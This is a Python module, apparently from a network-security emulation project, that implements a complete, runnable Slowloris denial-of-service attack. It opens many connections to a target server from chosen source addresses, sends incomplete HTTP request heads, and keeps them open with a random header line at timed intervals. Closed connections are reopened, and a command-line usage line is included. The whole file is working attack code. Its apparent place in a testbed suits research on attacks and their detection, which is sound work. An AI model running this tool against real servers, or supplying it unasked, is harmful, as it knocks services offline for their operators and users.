"""A real Slowloris (`002_…` Section IV), started in an attacker namespace.

It opens `count` connections to the server from the attackers' addresses (at most
`OPEN_RATE` new ones a second), sends each an incomplete request head, and keeps each
open by sending one more header line every `interval` seconds, never the blank line
that ends the head; a connection the server closes is opened again.

    python -m secmas.network.emulation.slowloris DST PORT COUNT INTERVAL SRC[,SRC…]
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import sys

OPEN_RATE = 200.0


async def hold(dst: str, port: int, src: str, interval: float, rng: random.Random) -> None:
    """One connection kept open with a header line every `interval`, reopened when closed."""
    while True:
        writer = None
        try:
            _, writer = await asyncio.open_connection(dst, port, local_addr=(src, 0))
            writer.write(
                f"GET /?{rng.getrandbits(32):x} HTTP/1.1\r\nHost: {dst}\r\n"
                "User-Agent: Mozilla/5.0\r\n".encode()
            )
            await writer.drain()
            while True:
                await asyncio.sleep(interval * rng.uniform(0.8, 1.2))
                writer.write(f"X-a: {rng.getrandbits(16)}\r\n".encode())
                await writer.drain()
        except OSError:
            await asyncio.sleep(interval)
        finally:
            if writer is not None:
                writer.close()


async def slowloris(dst: str, port: int, count: int, interval: float, sources: list[str]) -> None:
    rng = random.Random()
    tasks = []
    for index in range(count):
        source = sources[index % len(sources)]
        tasks.append(asyncio.ensure_future(hold(dst, port, source, interval, rng)))
        await asyncio.sleep(1.0 / OPEN_RATE)
    await asyncio.gather(*tasks)


def main(argv: list[str]) -> int:
    if len(argv) != 5:
        print(__doc__, file=sys.stderr)
        return 2
    dst, port, count, interval = argv[0], int(argv[1]), int(argv[2]), float(argv[3])
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(slowloris(dst, port, count, interval, argv[4].split(",")))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
